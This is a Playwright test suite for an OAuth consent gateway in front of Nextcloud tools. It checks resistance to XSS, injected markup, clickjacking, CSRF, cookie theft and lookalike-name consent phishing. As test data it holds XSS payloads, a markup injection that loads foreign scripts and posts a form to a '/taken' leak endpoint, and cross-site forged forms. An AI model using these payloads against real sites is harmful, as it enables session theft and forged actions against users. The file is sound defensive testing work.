import { expect } from 'chai';
import type { BrowserContext, BrowserContextOptions } from 'playwright-core';
import { STAND_IN_PEOPLE } from '../sign-in/stand-in/nextcloud.ts';
import type { Person } from '../sign-in/person.ts';
import { startBrowserBed } from './browser-bed.ts';
import type { BrowserBed, ForeignClient } from './browser-bed.ts';

const EVIL = `<img src=x onerror=alert(1)>"'><script>alert(2)</script><svg/onload=alert(3)>`;
/** What any of it would have become, had it been taken for markup. */
const TRACES = 'img[src="x"], svg[onload], script:not([src]), [onerror], [onload]';

const ACCOUNTS = STAND_IN_PEOPLE.map((one) =>
  one.id === 'alice' ? { ...one, displayName: EVIL } : one,
);

describe('attacks in Chromium', () => {
  let bed: BrowserBed;
  let alice: Person;
  /** Dialogs that a script opened, and scripts that a policy stopped. */
  let dialogs: string[];

  /** Of a browser in which alice is signed in, and has allowed a client called Letter writer. */
  let signedIn: Awaited<ReturnType<BrowserContext['storageState']>>;

  before(async () => {
    bed = await startBrowserBed({ accounts: ACCOUNTS });
    alice = await bed.person('alice');
    await alice.open(await bed.authorizeUrl({ name: 'Letter writer' }));
    await alice.signIn();
    await alice.allow();
    await alice.sees(/Foreign/);
    signedIn = await alice.page.context().storageState();
    await alice.page.context().close();
  });
  after(() => bed.close());

  beforeEach(async () => {
    dialogs = [];
    bed.foreign.visits.splice(0);
    bed.foreign.pages.clear();
    alice = await watched({ storageState: signedIn });
  });
  afterEach(() => alice.page.context().close());

  async function watched(options: BrowserContextOptions = {}): Promise<Person> {
    const person = await bed.person('alice', options);
    person.page.context().on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    return person;
  }

  /** At the question whether a client may. */
  async function atConsent(client: ForeignClient = {}): Promise<void> {
    await alice.open(await bed.authorizeUrl(client));
    await alice.sees(/^Allow/);
  }

  async function expectUntouched(): Promise<void> {
    const answer = await alice.page.context().request.get(`${bed.gateway.url}/user`);
    expect(answer.status()).to.equal(200);
    const { account, clients } = (await answer.json()) as {
      account: { userId: string };
      clients: { client: { name: string } }[];
    };
    expect(account.userId).to.equal('alice');
    expect(clients.map(({ client }) => client.name)).to.include('Letter writer');
  }

  describe('foreign text (XSS)', () => {
    async function expectText(where: string, words?: string, person = alice): Promise<void> {
      expect(await person.page.locator(TRACES).count(), where).to.equal(0);
      if (words !== undefined) expect(await person.text(), where).to.contain(words);
      expect(dialogs, where).to.eql([]);
    }

    it('of a client and of Nextcloud stays text on every page it comes to', async () => {
      const stranger = await watched();
      await stranger.open(await bed.authorizeUrl({ name: EVIL }));
      await expectText('sign-in', '<img src=x onerror=alert(1)>', stranger);
      await stranger.page.context().close();
      await atConsent({ name: EVIL });
      await expectText('consent, the client', 'Calls itself <img src=x onerror=alert(1)>');
      await expectText('consent, the person', `You are ${EVIL}`);
      await alice.page.route('**/callback*', (route) => route.abort());
      await alice.allow();
      await expectText('on the way back');
      await alice.open(`${bed.gateway.url}/user/page`);
      await expectText('account', '<img src=x onerror=alert(1)>');
      await alice.disconnect('<img src=x');
      await expectText('account, disconnected', '<img src=x onerror=alert(1)>');
    });

    it('in an address stays text, or is not shown at all', async () => {
      const wrong = encodeURIComponent(EVIL);
      for (const path of [
        `/oauth/authorize?client_id=${wrong}&error=${wrong}&error_description=${wrong}`,
        `/oauth/login?flow=${wrong}`,
        `/oauth/login/callback?state=${wrong}&error=${wrong}&error_description=${wrong}`,
        `/oauth/interaction/${wrong}`,
        `/tools?q=${wrong}&toolset=${wrong}&page=${wrong}`,
        `/tools/${wrong}`,
        `/user/page?done=${wrong}`,
        `/${wrong}`,
        `/?${wrong}`,
      ]) {
        await alice.open(bed.gateway.url + path);
        await expectText(path);
      }
    });

    it('in a scope, a state or a resource stays text, and comes back as such', async () => {
      const scope = 'notes:read <img/src=x/onerror=alert(1)> <svg/onload=alert(3)>';
      await atConsent({ parameters: { scope, state: EVIL } });
      await expectText('consent');
      expect([...(await alice.offered()).keys()]).to.eql(['notes:read']);
      await alice.cancel();
      await alice.sees(/Foreign/);
      const back = bed.foreign.visits.find(({ url }) => url.startsWith('/callback'));
      const said = new URL(back?.url ?? '', bed.foreign.url).searchParams;
      expect([said.get('error'), said.get('state')]).to.eql(['access_denied', EVIL]);
      expect(dialogs).to.eql([]);
    });

    it('in what Nextcloud answers to a tool stays text', async () => {
      bed.nextcloud.addNote('alice', EVIL, EVIL);
      await alice.open(`${bed.gateway.url}/tools/nc_notes_search_notes`);
      await alice.page.locator('form').last().locator('button').click();
      await alice.page.getByText('onerror=alert(1)').first().waitFor();
      await expectText('tool');
    });
  });

  describe('markup that got into a page all the same', () => {
    const places: Readonly<Record<string, () => Promise<void>>> = {
      'the sign-in page': async () => {
        await alice.page.context().clearCookies();
        await alice.open(await bed.authorizeUrl({}));
      },
      'the consent page': () => atConsent(),
      'the account page': () => alice.open(`${bed.gateway.url}/user/page`),
    };
    for (const [where, open] of Object.entries(places)) {
      it(`runs nothing, sends nothing and leads nowhere on ${where}`, async () => {
        await open();
        const { page } = alice;
        const violations: string[] = [];
        await page.exposeFunction('violated', (directive: string) => violations.push(directive));
        await page.addInitScript(
          "addEventListener('securitypolicyviolation', (event) => violated(event.effectiveDirective))",
        );
        await page.route(page.url(), async (route) => {
          const response = await route.fetch();
          const body = (await response.text()).replace('</h1>', `</h1>${injected()}`);
          await route.fulfill({ response, body });
        });
        await page.reload();
        await page.locator('#leak button').waitFor();
        expect(await page.evaluate('document.baseURI')).to.equal(page.url());
        await page.locator('#leak button').dispatchEvent('click');
        await page.locator('#script-link').dispatchEvent('click');
        await expectViolations(violations, ['base-uri', 'form-action', 'img-src']);
        expect(violations.filter((one) => one.startsWith('script-src'))).not.to.eql([]);
        expect(dialogs).to.eql([]);
        expect(bed.foreign.visits).to.eql([]);
      });
    }

    function injected(): string {
      const { url } = bed.foreign;
      return `<base href="${url}/"><script>alert(1)</script><script src="${url}/evil.js"></script>
<img src="${url}/pixel?leak" onerror="alert(2)"><iframe src="${url}/frame"></iframe>
<link rel="stylesheet" href="${url}/evil.css"><style>@import url(${url}/import.css)</style>
<object data="${url}/object"></object><meta http-equiv="Content-Security-Policy" content="default-src *">
<a id="script-link" href="javascript:alert(3)" target="_self">x</a>
<form id="leak" action="${url}/taken" method="post"><input name="a" value="b"><button>Go</button></form>`;
    }

    /** Reports of violations arrive a little after what caused them. */
    async function expectViolations(seen: string[], wanted: readonly string[]): Promise<void> {
      const has = (): boolean => wanted.every((one) => seen.includes(one));
      for (let turn = 0; turn < 50 && !has(); turn += 1)
        await alice.page.evaluate('new Promise((done) => requestAnimationFrame(done))');
      expect(seen).to.include.members([...wanted]);
    }
  });

  it('no page can be put into a frame of another, not even of a neighbour (clickjacking)', async () => {
    await atConsent();
    const consent = new URL(alice.page.url()).pathname;
    const paths = [
      '/',
      '/user/page',
      '/tools',
      '/tools/nc_notes_get_note',
      '/oauth/login',
      consent,
    ];
    const frames = [...paths, '/oauth/authorize?client_id=x'].map(
      (path) => `<iframe src="${bed.gateway.url}${path}"></iframe>`,
    );
    bed.foreign.pages.set('/frames', frames.join('\n'));
    for (const site of [bed.foreign.url, bed.foreign.neighbourUrl]) {
      await alice.open(`${site}/frames`);
      await alice.page.waitForLoadState('load');
      const inside = alice.page.frames().slice(1);
      expect(inside.length).to.equal(frames.length);
      for (const frame of inside) {
        expect(frame.url()).to.equal('chrome-error://chromewebdata/');
        expect(await frame.locator('main, form').count()).to.equal(0);
      }
    }
    await expectUntouched();
  });

  describe('forms of other pages (CSRF)', () => {
    const forms: Readonly<Record<string, (consent: string) => string>> = {
      'to allow a client': (consent) => `${consent}/allow`,
      'to refuse one': (consent) => `${consent}/cancel`,
      'to leave for another account': (consent) => `${consent}/other-account`,
      'to disconnect a client': () => '/user/revoke-client',
      'to take back everything': () => '/user/revoke-all',
      'to sign out': () => '/oauth/logout',
      'to call a tool': () => '/tools/nc_notes_search_notes',
    };
    let victim: Person;
    let consent: string;

    before(async () => {
      victim = await watched({ storageState: signedIn });
      await victim.open(await bed.authorizeUrl({}));
      await victim.sees(/^Allow/);
      consent = new URL(victim.page.url()).pathname;
    });
    after(() => victim.page.context().close());

    for (const [what, path] of Object.entries(forms)) {
      it(`${what} change nothing, though a neighbour’s carries the cookie`, async () => {
        const asked = bed.nextcloud.asked.length;
        bed.foreign.pages.set(
          '/form',
          `<form method="post" action="${bed.gateway.url}${path(consent)}"><input name="csrf" value="guessed">
<input name="scope" value="notes:write"><input name="client" value="x"><button>Win a prize</button></form>`,
        );
        for (const site of [bed.foreign.url, bed.foreign.neighbourUrl]) {
          await victim.open(`${site}/form`);
          const sent = victim.page.waitForResponse((one) => one.request().method() === 'POST');
          await victim.page.getByRole('button').click();
          const response = await sent;
          const cookie = (await response.request().allHeaders())['cookie'] ?? '';
          expect(cookie.includes('session='), site).to.equal(site === bed.foreign.neighbourUrl);
          expect(response.status()).to.be.oneOf([400, 403]);
        }
        expect(bed.nextcloud.asked.length).to.equal(asked);
        expect(bed.foreign.visits.some(({ url }) => url.includes('code='))).to.equal(false);
        await expectUntouched();
      });
    }

    it('nor did they end what the person was asked: it can still be allowed', async () => {
      await victim.open(bed.gateway.url + consent);
      await victim.allow();
      await victim.sees(/Foreign/);
      expect(bed.foreign.visits.some(({ url }) => url.includes('code='))).to.equal(true);
    });

    it('nor can a script of another page read or change anything with the person’s cookies', async () => {
      await atConsent();
      for (const site of [bed.foreign.url, bed.foreign.neighbourUrl]) {
        await alice.open(`${site}/`);
        const outcomes = await alice.page.evaluate(scriptedRequests, bed.gateway.url);
        expect(outcomes).to.eql(
          Object.fromEntries(Object.keys(outcomes).map((one) => [one, 'no'])),
        );
      }
      await expectUntouched();
    });
  });

  it('its cookies are out of reach of scripts and of foreign sites’ forms', async () => {
    await atConsent();
    const cookies = await alice.page.context().cookies(alice.page.url());
    expect(cookies.map(({ name }) => name)).to.include.members(['session', 'interaction']);
    for (const { name, httpOnly, sameSite } of cookies)
      expect([httpOnly, sameSite], name).to.eql([true, 'Lax']);
    expect(await alice.page.evaluate('document.cookie')).to.equal('');
  });

  it('the client learns its code and nothing of where the person came from', async () => {
    await atConsent();
    await alice.allow();
    await alice.sees(/Foreign/);
    const back = bed.foreign.visits.find(({ url }) => url.startsWith('/callback?code='));
    expect(back).to.not.equal(undefined);
    expect(back?.headers.referer).to.equal(undefined);
    expect(back?.headers.cookie ?? '').not.to.match(/(?:^|; )(?:session|interaction)=/);
  });

  describe('names that look like others (consent phishing)', () => {
    async function warningFor(name: string, redirect: string): Promise<string> {
      await atConsent({ name, redirect });
      const alert = alice.page.getByRole('alert');
      return (await alert.count()) === 0 ? '' : await alert.innerText();
    }

    it('are shown with a warning, and always with where the answer goes', async () => {
      const evil = 'https://evil.example/callback';
      for (const name of [
        'Letter writer',
        'LETTER WRITER',
        'Letter  writer',
        'Lеtter writеr', // Cyrillic е
        'Letter wr\u0131ter', // dotless i
        'Letter\u200b writer',
        'Letter-wr1ter',
        'retirw retteL\u202e'.replace('retirw retteL', 'Letter writer'),
      ]) {
        expect(await warningFor(name, evil), name).to.contain('looks like “Letter writer”');
        expect(await alice.text()).to.contain('Answer goes to evil.example');
      }
      for (const name of ['Claude', 'CIaude', 'Сlaude', 'ChatGPT', 'Nextcloud', 'Nextc1oud'])
        expect(await warningFor(name, evil), name).to.contain('Take care');
    });

    it('but not where nobody is imitated', async () => {
      expect(await warningFor('Letter reader', 'https://letters.example/callback')).to.equal('');
      expect(await warningFor('Claude', 'https://claude.ai/api/mcp/auth_callback')).to.equal('');
    });

    it('cannot fill the page, break out of their line or turn the text round', async () => {
      const name = `Trusted\n\nAnswer goes to bank.example \u202e\u2066${'W'.repeat(500)}`;
      await atConsent({ name, redirect: 'https://evil.example/callback' });
      const shown = await alice.page.locator('dt:has-text("Calls itself") + dd').innerText();
      expect(shown.length).to.be.at.most(60);
      expect(shown).not.to.match(/[\n\u202e\u2066]/);
      expect(await alice.page.locator('dd').allInnerTexts()).to.include('evil.example');
    });
  });
});

/** In the foreign page: what its script gets with the person’s cookies. */
async function scriptedRequests(gateway: string): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
  const tries: Record<string, RequestInit> = {
    '/user': {},
    '/user/page': {},
    '/oauth/login/status?flow=x': {},
    '/tools': {},
    '/user/revoke-all': { method: 'POST', headers: form, body: 'csrf=x' },
    '/oauth/logout': { method: 'POST', headers: { ...form, 'X-Any': '1' }, body: 'csrf=x' },
    '/mcp': {
      method: 'POST',
      headers: { 'Content-Type': 'text/plain' },
      body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
    },
  };
  for (const [path, init] of Object.entries(tries)) {
    const answer = await fetch(gateway + path, { ...init, credentials: 'include' }).catch(
      () => undefined,
    );
    outcomes[path] = answer === undefined ? 'no' : `${String(answer.status)} was readable`;
  }
  return outcomes;
}
